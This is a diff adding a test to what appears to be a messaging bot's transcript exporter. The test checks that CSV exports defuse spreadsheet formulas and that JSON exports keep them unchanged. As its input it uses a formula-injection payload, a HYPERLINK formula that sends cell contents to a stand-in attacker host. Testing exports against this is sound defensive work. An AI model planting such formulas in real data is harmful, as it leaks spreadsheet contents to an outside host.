@@ -209,3 +209,21 @@ def test_a_file_that_is_not_a_botkit_database_is_a_clear_error(tmp_path, capsys,
     out, err = capsys.readouterr()
     assert (code, out) == (2, "")
     assert message in err
+
+
+async def test_text_a_spreadsheet_would_run_is_inert_in_csv_and_verbatim_in_json(
+    app, settings, capsys
+):
+    sim = app.state.simulator
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    await sim.send_mo(ADA, formula)
+    await eventually(lambda: rows(settings.db, "SELECT 1 FROM messages WHERE status = 'handled'"))
+    code, out, _ = await export("transcripts", "--db", str(settings.db), "--format", "csv",
+                                capsys=capsys)  # fmt: skip
+    assert code == 0
+    mo = next(row for row in csv.DictReader(io.StringIO(out)) if row["direction"] == "mo")
+    assert mo["content"] == "'" + formula
+    assert mo["handset"] == ADA  # a number with its + is not a formula
+    code, out, _ = await export("transcripts", "--db", str(settings.db), "--format", "json",
+                                capsys=capsys)  # fmt: skip
+    assert any(message["content"] == formula for message in json.loads(out))
